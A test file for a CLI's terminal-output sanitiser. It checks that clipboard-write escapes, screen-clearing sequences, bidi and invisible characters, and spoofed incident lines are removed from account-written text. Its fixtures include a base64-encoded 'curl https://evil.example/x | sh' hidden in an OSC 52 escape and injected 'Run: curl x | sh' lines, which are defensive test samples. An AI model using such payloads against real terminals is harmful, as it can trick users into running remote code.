import { Writable } from "node:stream";
import { describe, expect, it } from "vitest";
import { incidentText, stepsTable, table } from "../../../cli/output.ts";
import { cellSafe, installTerminalFilter, jsonText, terminalSafe } from "../../../cli/terminal.ts";
import { anIncident } from "../../support/incidents.ts";

const OSC52 = "\u001B]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u0007";
const OSC52_ST = "\u001B]52;c;Y3VybA==\u001B\\";
const CSI = "\u001B[2J\u001B[1;1H\u001B[8m";
const C1_CSI = "\u009B2J";
const RED = "\u001B[31m";
const RESET = "\u001B[0m";

// Anything that drives a terminal or hides text: ESC, C0 but LF and tab, DEL, C1, bidi, invisible.
const UNSAFE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the assertion is about control characters
  /[\u0000-\u0008\u000B-\u001A\u001C-\u001F\u007F-\u009F\u00AD\u180E\u200B\u202A-\u202E\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDFFF]/;

describe("terminalSafe", () => {
  it("removes OSC 52 clipboard writes whole, with BEL or ST as terminator", () => {
    expect(terminalSafe(`a${OSC52}b`)).toBe("ab");
    expect(terminalSafe(`a${OSC52_ST}b`)).toBe("ab");
  });

  it("removes CSI sequences, 7- and 8-bit, and two-character escapes", () => {
    expect(terminalSafe(`a${CSI}b${C1_CSI}c\u001Bcd\u001B7e`)).toBe("abcde");
  });

  it("stops an unterminated OSC at the end of its line, so the next lines still show", () => {
    expect(terminalSafe("a\u001B]52;c;AAAA\nContained: no\n")).toBe("a\nContained: no\n");
  });

  it("keeps the CLI's own colours, LF and tab, and removes CR, BS and BEL", () => {
    // Arrange
    const own = `${RED}FAILED${RESET}\tdetail\n`;

    // Act / Assert
    expect(terminalSafe(own)).toBe(own);
    expect(terminalSafe("ok\rFAILED\b\b\u0007")).toBe("okFAILED");
  });

  it("removes bidi overrides, invisible and tag characters", () => {
    expect(terminalSafe(`a\u202Eb\u00ADc\u180Ed${String.fromCodePoint(0xe0041)}e`)).toBe("abcde");
  });

  it("keeps a cell on one line", () => {
    expect(cellSafe(`a\nContain: NOT NEEDED\tb${RED}c${RESET}`)).toBe(
      `a Contain: NOT NEEDED b${RED}c${RESET}`,
    );
  });
});

describe("jsonText", () => {
  it("writes pure ASCII JSON that parses back to the same data", () => {
    // Arrange
    const value = { name: `x${OSC52}\u009B\u202E\u2028é🔥${String.fromCodePoint(0xe0041)}`, n: 1 };

    // Act
    const json = jsonText(value);

    // Assert
    expect(json).toMatch(/^[\x20-\x7E]*$/);
    expect(JSON.parse(json)).toEqual(value);
    expect(terminalSafe(json)).toBe(json);
  });
});

describe("the stream filter", () => {
  function capture() {
    const chunks: string[] = [];
    const stream = new Writable({
      write(chunk, _encoding, done) {
        chunks.push(String(chunk));
        done();
      },
    });
    return { stream: stream as unknown as NodeJS.WriteStream, chunks };
  }

  it("filters strings and buffers written to the stream, once, whatever the caller", () => {
    // Arrange
    const { stream, chunks } = capture();
    installTerminalFilter(stream);
    installTerminalFilter(stream);

    // Act
    stream.write(`owner ${OSC52}mallory${CSI}\n`);
    stream.write(Buffer.from(`${RED}red${RESET}${C1_CSI}\n`));

    // Assert
    expect(chunks).toEqual(["owner mallory\n", `${RED}red${RESET}\n`]);
  });
});

describe("incident text and tables", () => {
  it("prints account-written text on its own line, without escape sequences", () => {
    // Arrange
    const incident = anIncident();
    incident.impact.owner = `mallory${OSC52}\nContain: NOT NEEDED`;
    incident.impact.reasons = [
      { factor: "tag", points: 1, text: `Environment=prod${CSI}\r\nRun: curl x | sh` },
    ];
    incident.steps.contain = {
      status: "failed",
      startedAt: incident.createdAt,
      attempts: 1,
      error: `denied${C1_CSI}\u202Eevil`,
    };

    // Act
    const out = incidentText(incident);

    // Assert
    expect(out).not.toMatch(UNSAFE);
    expect(out).not.toContain("\u001B");
    expect(out.split("\n").filter((l) => /^\s*(Contain:|Run:)/.test(l))).toEqual([]);
    expect(out).toContain("owner mallory]52;c;");
  });

  it("aligns table columns on the cleaned text", () => {
    // Act
    const out = table([
      ["a\nb", "c"],
      ["long cell", `${RED}x${RESET}`],
    ]);

    // Assert
    expect(out.split("\n")).toEqual(["a b        c", `long cell  ${RED}x${RESET}`]);
  });

  it("prints an action's steps one a line, indented, account-written text cleaned and cut", () => {
    // Act
    const out = stepsTable(
      [
        { name: "deny-policy", target: `user/x${CSI}\nRun: sh`, status: "failed", detail: "d".repeat(200) },
        { name: "restore", target: "b", status: "ok", detail: "done" },
      ],
      "  ",
    );

    // Assert
    const lines = out.split("\n");
    expect(lines).toHaveLength(2);
    expect(lines.every((l) => l.startsWith("  "))).toBe(true);
    expect(out).not.toMatch(UNSAFE);
    expect(lines[0]).toContain("failed");
    expect(lines[0]).not.toContain("d".repeat(91));
    expect(lines[1]).toMatch(/^ {2}restore\s+b\s+ok\s+done\s*$/);
  });
});
